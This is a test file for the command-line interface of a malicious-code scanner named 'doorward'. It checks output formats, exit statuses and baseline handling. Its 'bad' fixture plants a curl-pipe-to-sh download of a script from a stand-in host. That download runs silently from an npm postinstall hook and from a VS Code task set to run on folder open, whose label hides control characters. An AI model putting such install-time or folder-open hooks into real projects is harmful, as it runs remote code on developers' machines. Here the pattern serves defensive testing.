import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { after, before, describe, it } from "node:test";
import type { Verdict } from "@doorward/core";
import { expectRefusal, runCommand, useReaders, type TestSurroundings } from "./run-command.test-support.ts";

const download = "curl -s https://files.example/a.sh | sh";
const bad = {
  "package.json": JSON.stringify({ name: "test", scripts: { postinstall: "node setup.js" } }),
  "setup.js": `require("child_process").exec("${download}", { stdio: "ignore", detached: true });\n`,
  ".vscode/tasks.json": JSON.stringify({
    version: "2.0.0",
    tasks: [{ label: "a\u202E\u001B[2J", type: "shell", command: download, runOptions: { runOn: "folderOpen" } }],
  }),
};
const good = { "index.js": "export const a = 1;\n" };

const readers = useReaders();
/** Most commands share readers; the first starts its own, as one does who types it. */
const run = async (words: readonly string[], around: TestSurroundings = {}) =>
  await runCommand(words, { readers, ...around });

describe("the command line", () => {
  let folder = "";
  before(() => {
    folder = mkdtempSync(join(tmpdir(), "doorward-command-"));
    write("bad", bad);
    write("good", good);
  });
  after(() => rmSync(folder, { recursive: true, force: true }));

  it("tells a verdict in plain text when nobody sits at a terminal", async () => {
    const { status, output, errors } = await runCommand(["scan", at("bad")]);
    assert.equal(status, 2, output);
    assert.match(output, /^ STOP {2}/u);
    assert.ok(output.includes("What would happen") && output.includes("What to do now"));
    assert.doesNotMatch(output, /\u001B|\u202E|https:\/\/files/u);
    assert.equal(errors, "");
  });

  it("colours it on a terminal, and not under NO_COLOR", async () => {
    assert.match((await run(["scan", at("good")], { terminal: { isTTY: true } })).output, /^\u001B\[1;30;42m CLEAR /u);
    const plain = await run(["scan", at("good")], { terminal: { isTTY: true }, environment: { NO_COLOR: "1" } });
    assert.doesNotMatch(plain.output, /\u001B/u);
  });

  it("keeps sentences within the width of the terminal", async () => {
    const { output } = await run(["scan", at("good")], { terminal: { columns: 50 } });
    const [, ...lines] = output.split("\n");
    assert.deepEqual(
      lines.filter((line) => line.length > 50),
      [],
    );
  });

  it("--json writes one object a line for each input, and the worst verdict is the status", async () => {
    const { status, output } = await run(["scan", "--json", at("bad"), at("good")]);
    assert.equal(status, 2);
    const verdicts = output
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as Verdict);
    assert.deepEqual(
      verdicts.map(({ door, arrival, verdict }) => [door, arrival.kind, arrival.name, verdict]),
      [
        ["interview", "code", at("bad"), "stop"],
        ["interview", "code", at("good"), "clear"],
      ],
    );
    const [first] = verdicts;
    assert.ok(first);
    for (const field of [
      "because",
      "chain",
      "next",
      "findings",
      "accepted",
      "unjudged",
      "observables",
      "rules",
      "tookMs",
    ])
      assert.ok(field in first, field);
    const finding = first.findings[0];
    assert.ok(finding);
    for (const field of ["rule", "title", "strength", "family", "techniques", "evidence"]) assert.ok(field in finding);
  });

  it("--sarif writes one log for all inputs", async () => {
    const { status, output } = await run(["scan", "--sarif", at("bad"), at("good")]);
    assert.equal(status, 2);
    assert.equal((JSON.parse(output) as { runs: unknown[] }).runs.length, 2);
  });

  it("writes a baseline, refuses it without reasons, accepts with them, and not after their day", async () => {
    const path = at("baseline.json");
    const baseline = ["scan", at("bad"), "--baseline", path];
    const written = await run(["scan", at("bad"), "--write-baseline", path]);
    assert.match(written.errors, /^Wrote \d+ findings to .+\n$/u);
    expectRefusal(await run(baseline), 64, 'row 1: say "reason"');
    const { accepted } = JSON.parse(readFileSync(path, "utf8")) as { accepted: { until: string }[] };
    assert.equal(accepted[0]?.until, "2027-02-24");
    writeFileSync(path, JSON.stringify({ accepted: accepted.map((row) => ({ ...row, reason: "Looked at." })) }));
    const { status, output } = await run(baseline);
    assert.equal(status, 0, output);
    assert.match(output, /Looked at\. \(until 2027-02-24\)/u);
    assert.equal((await run(baseline, { today: "2027-02-25" })).status, 2);
  });

  it("refuses a baseline that is no baseline", async () => {
    for (const [text, told] of [
      ["{", "is not JSON"],
      ["[]", 'has no list "accepted"'],
      ['{"accepted":[{"until":"soon"}]}', 'row 1: write "until" as YYYY-MM-DD'],
    ] as const) {
      writeFileSync(at("broken.json"), text);
      expectRefusal(await run(["scan", at("good"), "--baseline", at("broken.json")]), 64, told);
    }
    expectRefusal(await run(["scan", at("good"), "--baseline", at("none.json")]), 66, "--write-baseline");
  });

  it("explains a rule by its id or the last part of it, and offers near names", async () => {
    const short = await run(["scan", "--explain", "folder-open-task"]);
    assert.equal(short.status, 0);
    assert.match(short.output, /What it sees/u);
    assert.equal((await run(["scan", "--explain", "code/folder-open-task"])).output, short.output);
    expectRefusal(await run(["scan", "--explain", "folder-open"]), 64, "Did you mean code/folder-open-task");
  });

  it("tells its usage and its version", async () => {
    assert.match((await run(["--help"])).output, /^Usage$/mu);
    assert.match((await run(["scan", "--help"])).output, /--write-baseline <file>/u);
    assert.match((await run(["--version"])).output, /^doorward, rules \d{4}\.\d+\.\d+\n$/u);
  });

  it("answers wrong usage with status 64 and one line", async () => {
    expectRefusal(await run(["scna"]), 64, 'no command "scna"');
    expectRefusal(await run(["scan"]), 64, "Name what to scan");
    expectRefusal(await run(["scan", at("good"), "--jsno"]), 64, "--jsno");
    expectRefusal(await run(["scan", at("good"), "--json", "--sarif"]), 64, "Choose one");
    assert.equal((await run([])).status, 64);
  });

  it("answers a missing input with status 66 and one line that names it", async () => {
    expectRefusal(await run(["scan", at("nowhere")]), 66, at("nowhere"));
  });

  function at(name: string): string {
    return join(folder, name);
  }

  function write(name: string, files: Readonly<Record<string, string>>): void {
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(folder, name, path)), { recursive: true });
      writeFileSync(join(folder, name, path), text);
    }
  }
});
